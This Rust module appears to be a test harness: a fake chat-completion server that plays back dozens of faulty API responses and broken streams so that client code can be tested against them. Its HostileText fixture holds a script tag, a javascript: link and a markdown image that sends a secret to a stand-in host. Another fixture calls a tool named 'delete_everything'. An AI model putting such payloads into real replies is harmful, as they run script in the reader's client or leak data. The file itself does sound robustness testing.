//! What models and their servers do wrong.

use std::time::Duration;

use axum::{
    Json,
    http::{HeaderValue, StatusCode, header},
    response::{IntoResponse as _, Response},
};
use bytes::Bytes;
use domain::Micros;
use serde_json::{Value, json};

use super::{
    Asked,
    answer::{self, Answer, Step, WireCall, event},
    http,
    script::Call,
};
use crate::serve;

const SSE: &str = "text/event-stream; charset=utf-8";
/// What a bad answer says where it says something.
const TEXT: &str = "Here is what I found for you: žaba 🐸, and a little more of it.";

/// An enum without data that lists itself.
macro_rules! listed {
    ($(#[$meta:meta])* $name:ident { $($(#[$doc:meta])* $variant:ident,)* }) => {
        $(#[$meta])*
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
        pub enum $name { $($(#[$doc])* $variant,)* }

        impl $name {
            /// All of them.
            pub const ALL: &[Self] = &[$(Self::$variant,)*];
        }
    };
}

pub(super) use listed;

listed! {
    /// One wrong answer to a question. Where a variant speaks of a stream and none was asked for, the body of the whole
    /// answer is treated likewise, or, where that has no meaning, is sound.
    BadAnswer {
        // No answer, or none of a model.
        /// Accepts the request and says nothing.
        Hang,
        /// Closes the connection unanswered (needs [`super::Server::serve`]).
        Close,
        /// Status 400 with OpenAI's error body.
        BadRequest,
        /// 401; the body quotes parts of the key.
        Unauthorized,
        /// 403.
        Forbidden,
        /// 404, model unknown.
        ModelNotFound,
        /// 400, the context is too long.
        ContextTooLong,
        /// 413 with a page of HTML.
        TooLarge,
        /// 400 of Azure's filter on the prompt.
        PromptFiltered,
        /// 429 with `Retry-After: 1`.
        BusySeconds,
        /// 429 with a date in `Retry-After`, some 2 s ahead.
        BusyDate,
        /// 429 with `Retry-After: 3600`.
        BusyLong,
        /// 429 without a word how long.
        Busy,
        /// 429, out of money.
        QuotaSpent,
        /// 500 with OpenAI's error body.
        ServerError,
        /// 502 with a page of HTML.
        BadGateway,
        /// 503.
        Unavailable,
        /// 503 with `Retry-After: 1`.
        Overloaded,
        /// 302 to the list of models, which a client that follows would take for the answer.
        Redirect,
        /// 200 with an error object.
        ErrorWith200,
        /// 200 with an error object that tells status 429, as OpenRouter does.
        BusyWith200,
        /// 200 with an error that is a string.
        ErrorTextWith200,
        /// 200 with no bytes.
        EmptyBody,
        /// 200 with a page of HTML.
        HtmlWith200,
        /// 200 with 10,000 nested arrays.
        DeepJson,
        /// No choices.
        NoChoices,
        /// `choices` is an object.
        ChoicesOfAnotherType,
        /// A choice without a message.
        NoMessage,
        /// 200 with white space without end.
        EndlessBody,

        // A model's answer that is wrong in itself.
        /// No text and no calls.
        EmptyAnswer,
        /// Calls a tool that was not offered.
        UnknownTool,
        /// Calls a tool without a name.
        EmptyToolName,
        /// Calls a tool by a name of 10,000 characters, blanks and line ends among them.
        LongToolName,
        /// Arguments that are no JSON.
        BrokenArguments,
        /// Arguments that are an array.
        ArrayArguments,
        /// Arguments of wrong types, under names of no parameter.
        WrongArguments,
        /// Arguments that are an empty string.
        NoArguments,
        /// 1 MB of arguments.
        HugeArguments,
        /// Two calls with one id.
        DuplicateCallIds,
        /// Two calls with empty ids.
        EmptyCallIds,
        /// Two calls without ids.
        NoCallIds,
        /// An id of 1,000 characters.
        LongCallId,
        /// 100 calls at once.
        HundredCalls,
        /// The same call, whatever it gets as a result.
        SameCallAgain,
        /// 120,000 characters of text.
        HugeText,
        /// Text with a script, an image of another host and control characters.
        HostileText,
        /// Text cut off by the token limit.
        LengthInText,
        /// Arguments cut off by the token limit.
        LengthInArguments,
        /// No text at all before the token limit.
        LengthBeforeText,
        /// Filtered in mid-text.
        ContentFilter,
        /// A reason to finish that nobody knows.
        UnknownFinish,
        /// `stop`, although there are calls.
        StopWithCalls,
        /// `tool_calls`, although there are none.
        CallsPromised,
        /// Ends with the reason `error`.
        FinishError,
        /// Tells no usage.
        NoUsage,
        /// Tells a usage that cannot be.
        WildUsage,

        // A stream that is wrong.
        /// Headers of a stream, then nothing.
        HangAfterHeaders,
        /// Some text, then nothing.
        HangMidText,
        /// All of it, then neither `[DONE]` nor an end.
        HangAfterFinish,
        /// Cut before the first token.
        CutBeforeText,
        /// Cut in mid-text.
        CutMidText,
        /// Cut inside a character.
        CutInsideUtf8,
        /// Cut in mid-arguments.
        CutMidArguments,
        /// Ends in mid-text without an error of the connection.
        EndMidText,
        /// Ends after the last chunk, without `[DONE]`.
        NoDone,
        /// `[DONE]` without a reason to finish.
        DoneWithoutFinish,
        /// `[DONE]` alone.
        DoneAlone,
        /// Lines end with CR and LF.
        CarriageReturns,
        /// Comments and empty lines between and inside the events.
        Comments,
        /// No space after `data:`.
        NoSpaces,
        /// Each byte by itself.
        ByteByByte,
        /// Chunks without choices between the others, as Azure sends them.
        EmptyChunks,
        /// An event that is no JSON.
        GarbageEvent,
        /// An event that is no UTF-8.
        InvalidUtf8,
        /// Half of a surrogate pair.
        LoneSurrogate,
        /// An error object after some text.
        ErrorMidStream,
        /// An error object as the first event.
        ErrorAtOnce,
        /// A call with index 4,000,000,000.
        HugeCallIndex,
        /// A call with index -1.
        NegativeCallIndex,
        /// Calls without an index.
        NoCallIndex,
        /// All calls have index 0, as Google counted.
        ZeroCallIndexes,
        /// Text without end.
        EndlessText,
        /// Thoughts without end.
        EndlessThoughts,
        /// A stream that says it is plain text.
        MislabelledStream,
        /// A whole answer, although a stream was asked for.
        WholeInsteadOfStream,
    }
}

/// What a bad answer says and calls, before it goes wrong.
pub(super) fn said(bad: BadAnswer, asked: &Asked) -> (String, Vec<Call>, Option<BadAnswer>) {
    let tools = asked.tools();
    let name = tools.first().copied().unwrap_or("lookup").to_owned();
    let call = |arguments: &str| Call { name: name.clone(), arguments: arguments.to_owned() };
    let calls = match bad {
        BadAnswer::UnknownTool => vec![Call { name: "delete_everything".to_owned(), arguments: "{}".to_owned() }],
        BadAnswer::EmptyToolName => vec![Call { name: String::new(), arguments: "{}".to_owned() }],
        BadAnswer::LongToolName => vec![Call { name: "né w\n".repeat(2_000), arguments: "{}".to_owned() }],
        BadAnswer::BrokenArguments => vec![call("{\"id\": 7, oops")],
        BadAnswer::ArrayArguments => vec![call("[1, 2, 3]")],
        BadAnswer::WrongArguments => {
            vec![call("{\"no_such_parameter\": {\"x\": [null]}, \"id\": [true], \"limit\": \"many\"}")]
        }
        BadAnswer::NoArguments => vec![call("")],
        BadAnswer::HugeArguments => vec![call(&format!("{{\"text\":\"{}\"}}", "a".repeat(1024 * 1024)))],
        BadAnswer::HundredCalls => (0..100).map(|at| call(&format!("{{\"id\":{at}}}"))).collect(),
        BadAnswer::DuplicateCallIds
        | BadAnswer::EmptyCallIds
        | BadAnswer::NoCallIds
        | BadAnswer::NoCallIndex
        | BadAnswer::ZeroCallIndexes => vec![call("{\"id\":1}"), call("{\"id\":2}")],
        BadAnswer::LongCallId
        | BadAnswer::SameCallAgain
        | BadAnswer::StopWithCalls
        | BadAnswer::HugeCallIndex
        | BadAnswer::NegativeCallIndex => vec![call("{}")],
        BadAnswer::LengthInArguments => vec![call("{\"text\":\"it was to be lon")],
        BadAnswer::CutMidArguments => vec![call(&format!("{{\"text\":\"{}\"}}", "a".repeat(100)))],
        _ => Vec::new(),
    };
    let text = match bad {
        BadAnswer::EmptyAnswer | BadAnswer::LengthBeforeText | BadAnswer::EndlessThoughts => String::new(),
        BadAnswer::HugeText => "All work and no play. ".repeat(5_500),
        BadAnswer::HostileText => {
            "<script>alert(1)</script> ![x](https://evil.example/?q=secret) \u{0}\u{7}\u{202e} [go](javascript:alert(1))"
                .to_owned()
        }
        BadAnswer::ByteByByte => TEXT.repeat(2),
        _ if !calls.is_empty() => String::new(),
        _ => TEXT.to_owned(),
    };
    (text, calls, Some(bad))
}

/// Answers that no model has a part in; `None` for the others.
pub(super) fn instead(bad: BadAnswer, now: Micros) -> Option<Response> {
    const HTML: &str = "<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>";
    let error = |status: u16, message: &str, kind: &str, code| {
        let status = StatusCode::from_u16(status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
        http::error(status, message, kind, Some(code))
    };
    let html = |status: StatusCode| (status, [(header::CONTENT_TYPE, "text/html")], HTML).into_response();
    let invalid = "invalid_request_error";
    Some(match bad {
        BadAnswer::Hang => http::silence(),
        BadAnswer::Close => serve::cut(),
        BadAnswer::BadRequest => error(400, "Invalid 'messages[1].content': blocked.", invalid, "invalid_value"),
        BadAnswer::Unauthorized => {
            error(401, "Incorrect API key provided: sk-abcde***********wxyz.", invalid, "invalid_api_key")
        }
        BadAnswer::Forbidden => error(
            403,
            "Country, region, or territory not supported",
            "request_forbidden",
            "unsupported_country_region_territory",
        ),
        BadAnswer::ModelNotFound => {
            error(404, "The model does not exist or you do not have access to it.", invalid, "model_not_found")
        }
        BadAnswer::ContextTooLong => {
            error(400, "This model's maximum context length is 8192 tokens.", invalid, "context_length_exceeded")
        }
        BadAnswer::TooLarge => html(StatusCode::PAYLOAD_TOO_LARGE),
        BadAnswer::PromptFiltered => {
            let inner = json!({"code": "ResponsibleAIPolicyViolation", "content_filter_result": {"violence": {"filtered": true, "severity": "medium"}}});
            let message =
                "The response was filtered due to the prompt triggering Azure OpenAI's content management policy.";
            let body = json!({"error": {
                "message": message, "type": null, "param": "prompt", "code": "content_filter", "status": 400, "innererror": inner,
            }});
            (StatusCode::BAD_REQUEST, Json(body)).into_response()
        }
        BadAnswer::BusySeconds => http::refuse(429, Some(1)),
        BadAnswer::BusyLong => http::refuse(429, Some(3_600)),
        BadAnswer::Busy => http::refuse(429, None),
        BadAnswer::BusyDate => {
            let mut response = http::refuse(429, None);
            // A date has whole seconds: 2 ahead is between 1 and 2 from now.
            if let Some(date) = http_date(now + Duration::from_secs(2)) {
                response.headers_mut().insert(header::RETRY_AFTER, date);
            }
            response
        }
        BadAnswer::QuotaSpent => error(
            429,
            "You exceeded your current quota, please check your plan and billing details.",
            "insufficient_quota",
            "insufficient_quota",
        ),
        BadAnswer::ServerError => http::refuse(500, None),
        BadAnswer::BadGateway => html(StatusCode::BAD_GATEWAY),
        BadAnswer::Unavailable => http::refuse(503, None),
        BadAnswer::Overloaded => http::refuse(503, Some(1)),
        BadAnswer::Redirect => (StatusCode::FOUND, [(header::LOCATION, "/v1/models")]).into_response(),
        BadAnswer::ErrorWith200 => {
            error_with_200(json!({"message": "Internal error", "type": "server_error", "param": null, "code": null}))
        }
        BadAnswer::BusyWith200 => error_with_200(json!({"message": "Rate limited upstream", "code": 429})),
        BadAnswer::ErrorTextWith200 => error_with_200(json!("something went wrong")),
        BadAnswer::EmptyBody => StatusCode::OK.into_response(),
        BadAnswer::HtmlWith200 => html(StatusCode::OK),
        BadAnswer::DeepJson => {
            let body = format!("{{\"choices\":{}", "[".repeat(10_000));
            ([(header::CONTENT_TYPE, "application/json")], body).into_response()
        }
        BadAnswer::NoChoices => Json(json!({"id": "x", "object": "chat.completion", "choices": []})).into_response(),
        BadAnswer::ChoicesOfAnotherType => Json(json!({"id": "x", "choices": {"0": {}}})).into_response(),
        BadAnswer::NoMessage => {
            Json(json!({"id": "x", "choices": [{"index": 0, "finish_reason": "stop"}]})).into_response()
        }
        BadAnswer::EndlessBody => {
            let blanks = Bytes::from(vec![b' '; 64 * 1024]);
            answer::body("application/json", vec![Step::Forever(blanks)], Duration::ZERO)
        }
        _ => return None,
    })
}

pub(super) fn error_with_200(error: Value) -> Response {
    Json(json!({"error": error})).into_response()
}

fn http_date(at: Micros) -> Option<HeaderValue> {
    let at = jiff::Timestamp::from_second(at.seconds()).ok()?;
    let text = jiff::fmt::rfc2822::DateTimePrinter::new().timestamp_to_rfc9110_string(&at).ok()?;
    HeaderValue::from_str(&text).ok()
}

/// Changes what the model says.
pub(super) fn spoil(bad: BadAnswer, answer: &mut Answer) {
    let each = |answer: &mut Answer, change: fn(&mut WireCall)| answer.calls.iter_mut().for_each(change);
    match bad {
        BadAnswer::DuplicateCallIds => each(answer, |call| call.id = json!("call_twice")),
        BadAnswer::EmptyCallIds => each(answer, |call| call.id = json!("")),
        BadAnswer::NoCallIds => each(answer, |call| call.id = Value::Null),
        BadAnswer::LongCallId => each(answer, |call| call.id = json!("x".repeat(1_000))),
        BadAnswer::HugeCallIndex => each(answer, |call| call.index = json!(4_000_000_000_u64)),
        BadAnswer::NegativeCallIndex => each(answer, |call| call.index = json!(-1)),
        BadAnswer::NoCallIndex => each(answer, |call| call.index = Value::Null),
        BadAnswer::ZeroCallIndexes => each(answer, |call| call.index = json!(0)),
        BadAnswer::LengthInText | BadAnswer::LengthInArguments | BadAnswer::LengthBeforeText => {
            answer.finish = json!("length");
        }
        BadAnswer::ContentFilter => answer.finish = json!("content_filter"),
        BadAnswer::UnknownFinish => answer.finish = json!("grew_tired"),
        BadAnswer::StopWithCalls => answer.finish = json!("stop"),
        BadAnswer::CallsPromised => answer.finish = json!("tool_calls"),
        BadAnswer::FinishError => answer.finish = json!("error"),
        BadAnswer::DoneWithoutFinish => answer.finish = Value::Null,
        BadAnswer::NoUsage => answer.usage = Some(Value::Null),
        BadAnswer::WildUsage => {
            answer.usage = Some(json!({"prompt_tokens": -5, "completion_tokens": 1e30, "total_tokens": "many"}));
        }
        _ => {}
    }
}

/// The stream of a spoilt answer.
pub(super) fn stream(bad: BadAnswer, answer: &Answer, include_usage: bool, pace: Duration) -> Response {
    let chunks = answer.chunks(include_usage);
    let mut steps = answer::events(&chunks);
    // The role, and some text or the head and a piece of a call.
    let begun = 4.min(steps.len());
    let bytes = |text: String| Step::Bytes(text.into());
    match bad {
        BadAnswer::HangAfterHeaders => steps = vec![Step::Hang],
        BadAnswer::HangMidText => steps.splice(begun.., [Step::Hang]).for_each(drop),
        BadAnswer::HangAfterFinish => {
            // Neither usage: what came after the end would end the wait for it.
            let end = answer.chunks(false).len();
            steps.splice(end.., [Step::Hang]).for_each(drop);
        }
        BadAnswer::CutBeforeText => steps.splice(1.., [Step::Cut]).for_each(drop),
        BadAnswer::CutMidText | BadAnswer::CutMidArguments => steps.splice(begun.., [Step::Cut]).for_each(drop),
        BadAnswer::CutInsideUtf8 => {
            let chunk = answer.chunk(Some((json!({"content": "🐸"}), Value::Null)), include_usage).to_string();
            let cut = chunk.find('🐸').unwrap_or(0) + 2;
            let half = [b"data: ", &chunk.as_bytes()[..cut]].concat();
            steps.splice(begun.., [Step::Bytes(half.into()), Step::Cut]).for_each(drop);
        }
        BadAnswer::EndMidText => steps.truncate(begun),
        BadAnswer::NoDone => steps.truncate(steps.len() - 1),
        BadAnswer::DoneAlone => steps = vec![event("[DONE]")],
        BadAnswer::CarriageReturns => steps = rewritten(&steps, |text| text.replace('\n', "\r\n")),
        BadAnswer::Comments => {
            let comment =
                |text: String| format!(": OPENROUTER PROCESSING\n\nevent: message\nid: 7\n: more\n{text}\n\n\n");
            steps = rewritten(&steps, comment);
            steps.insert(0, bytes("\u{feff}:\n\n".to_owned()));
        }
        BadAnswer::NoSpaces => steps = rewritten(&steps, |text| text.replacen("data: ", "data:", 1)),
        BadAnswer::ByteByByte => {
            let all: Vec<u8> = steps.iter().flat_map(|step| step.bytes().to_vec()).collect();
            steps = all.into_iter().map(|byte| Step::Bytes(Bytes::copy_from_slice(&[byte]))).collect();
        }
        BadAnswer::EmptyChunks => {
            let filters = json!({
                "id": "", "object": "", "created": 0, "model": "", "choices": [],
                "prompt_filter_results": [{"prompt_index": 0, "content_filter_results": {}}],
            });
            let empty = event(&filters.to_string());
            steps = steps.into_iter().flat_map(|step| [empty.clone(), step]).collect();
        }
        BadAnswer::GarbageEvent => steps.insert(begun, event("{\"choices\": [oops")),
        BadAnswer::InvalidUtf8 => {
            let half = b"data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"\xc3\x28\xff\"}}]}\n\n";
            steps.insert(begun, Step::Bytes(Bytes::from_static(half)));
        }
        BadAnswer::LoneSurrogate => {
            steps.insert(begun, event("{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"\\ud83d\"}}]}"));
        }
        BadAnswer::ErrorMidStream | BadAnswer::ErrorAtOnce => {
            let error = json!({"error": {"message": "Provider disconnected", "code": 502}, "choices": []});
            let at = if bad == BadAnswer::ErrorAtOnce { 0 } else { begun };
            steps.splice(at.., [event(&error.to_string())]).for_each(drop);
        }
        BadAnswer::EndlessText | BadAnswer::EndlessThoughts => {
            let key = if bad == BadAnswer::EndlessText { "content" } else { "reasoning_content" };
            let piece = json!({key: "and so on and on ".repeat(64)});
            let chunk = answer.chunk(Some((piece, Value::Null)), include_usage);
            steps.splice(1.., [Step::Forever(event(&chunk.to_string()).bytes())]).for_each(drop);
        }
        BadAnswer::MislabelledStream => return answer::body("text/plain", steps, pace),
        BadAnswer::WholeInsteadOfStream => return answer::whole(answer),
        _ => {}
    }
    answer::body(SSE, steps, pace)
}

impl Step {
    fn bytes(&self) -> Bytes {
        match self {
            Self::Bytes(bytes) | Self::Forever(bytes) => bytes.clone(),
            Self::Cut | Self::Hang => Bytes::new(),
        }
    }
}

fn rewritten(steps: &[Step], change: impl Fn(String) -> String) -> Vec<Step> {
    steps.iter().map(|step| Step::Bytes(change(String::from_utf8_lossy(&step.bytes()).into_owned()).into())).collect()
}

/// The body of a spoilt answer, where no stream was asked for.
pub(super) fn whole(bad: BadAnswer, answer: &Answer, pace: Duration) -> Response {
    let body = answer.whole().to_string().into_bytes();
    let half = Bytes::copy_from_slice(&body[..body.len() / 2]);
    let steps = match bad {
        BadAnswer::HangAfterHeaders => vec![Step::Hang],
        BadAnswer::HangMidText => vec![Step::Bytes(half), Step::Hang],
        BadAnswer::CutBeforeText => vec![Step::Cut],
        BadAnswer::CutMidText | BadAnswer::CutInsideUtf8 | BadAnswer::CutMidArguments => {
            vec![Step::Bytes(half), Step::Cut]
        }
        BadAnswer::EndMidText | BadAnswer::GarbageEvent => vec![Step::Bytes(half)],
        BadAnswer::InvalidUtf8 => {
            let text = String::from_utf8_lossy(&body).into_owned();
            let cut = text.find('🐸').unwrap_or(0) + 2;
            vec![
                Step::Bytes(Bytes::copy_from_slice(&body[..cut])),
                Step::Bytes(Bytes::copy_from_slice(&body[cut + 1..])),
            ]
        }
        BadAnswer::ErrorMidStream | BadAnswer::ErrorAtOnce => {
            return error_with_200(json!({"message": "Provider disconnected", "code": 502}));
        }
        BadAnswer::EndlessText | BadAnswer::EndlessThoughts => {
            vec![Step::Bytes(half), Step::Forever(Bytes::from(vec![b'a'; 64 * 1024]))]
        }
        _ => vec![Step::Bytes(body.into())],
    };
    answer::body("application/json", steps, pace)
}
